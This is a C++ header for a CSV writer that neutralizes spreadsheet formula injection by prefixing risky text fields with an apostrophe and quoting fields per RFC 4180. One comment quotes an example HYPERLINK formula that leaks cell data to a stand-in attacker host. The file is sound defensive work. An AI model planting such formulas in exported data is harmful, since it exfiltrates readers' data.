#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace rd::csv {

/// What a CSV column holds, as its writer declares it. A spreadsheet evaluates a cell that
/// starts with '=', '+', '-' or '@' (and some read a leading tab or carriage return the same
/// way) as a formula: a text value copied from a provider or an operator
/// (`=HYPERLINK("http://attacker.example/?leak="&A1,"x")`) would run on the reader's machine.
enum class Kind {
    /// Anything that may come from input: ids, keys, notes, names, codes. A value starting
    /// with one of those characters is written with a leading apostrophe (OWASP's rule), which
    /// spreadsheets show as text.
    Text,
    /// A number the program produced (an amount, a count): a plain decimal
    /// (-?[0-9]+(.[0-9]+)?) is written as it is, so that -12.50 stays a number. Anything else
    /// in such a column is treated as Text: declaring a column numeric cannot let a formula out.
    Number,
};

/// A plain decimal as Kind::Number keeps it: an optional '-', digits, optionally '.' and digits.
bool isPlainNumber(std::string_view value);

/// One field: neutralized as its kind says, then quoted as RFC 4180 requires (in double quotes,
/// quotes doubled, when it holds a comma, a quote, a line feed or a carriage return).
std::string field(std::string_view value, Kind kind = Kind::Text);

/// One record: the fields joined by commas, ending in "\n" (the desk's files always have).
/// `kinds[i]` is field i's kind; fields beyond `kinds` (a header, say) are Text.
std::string line(const std::vector<std::string> &values, const std::vector<Kind> &kinds = {});

} // namespace rd::csv
